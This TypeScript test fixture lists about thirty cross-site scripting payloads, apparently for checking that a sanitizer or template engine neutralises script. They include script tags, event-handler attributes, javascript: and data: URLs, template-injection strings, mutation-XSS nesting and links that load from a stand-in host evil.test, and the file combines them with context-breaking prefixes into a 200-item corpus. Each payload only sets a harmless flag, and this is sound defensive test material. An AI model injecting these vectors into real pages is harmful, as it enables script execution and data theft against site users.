/** Texts that would run a script in a page that uses them as markup, a URL or code: each sets `window.ran`, or leaves the origin. */
export const scriptTexts: readonly string[] = [
  '<script>window.ran=1</script>',
  '"><script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '"><img src=x onerror=window.ran=1>',
  "'-window.ran=1-'",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would run
  '${window.ran=1}',
  '{{constructor.constructor("window.ran=1")()}}',
  '<iframe src="javascript:parent.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1//https://x',
  'data:text/html,<script>opener.ran=1</script>',
  '<a href="javascript:window.ran=1" autofocus>x</a>',
  '<body onload=window.ran=1>',
  '<input autofocus onfocus=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<video><source onerror=window.ran=1></video>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css"</style>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<form action=//evil.test><button autofocus>x</button></form>',
  '</title><script>window.ran=1</script>',
  '</textarea><script>window.ran=1</script>',
  '--><script>window.ran=1</script>',
  ']]><script>window.ran=1</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>',
  '<template><script>window.ran=1</script></template>',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '<x onclick=window.ran=1 style="position:fixed;inset:0">x',
  'url(javascript:window.ran=1)',
  'expression(window.ran=1)',
];

/** Prefixes for such texts, which end the surrounding value, tag, script, line or comment. */
const breakouts = ['"', "'>", '</script>', '\u2028', '*/'];
const corpusSize = 200;

/** 200 different texts: each alone, and after each of these prefixes. */
export const scriptCorpus: readonly string[] = [
  ...scriptTexts,
  ...breakouts.flatMap((breakout) => scriptTexts.map((text) => `${breakout}${text}`)),
].slice(0, corpusSize);
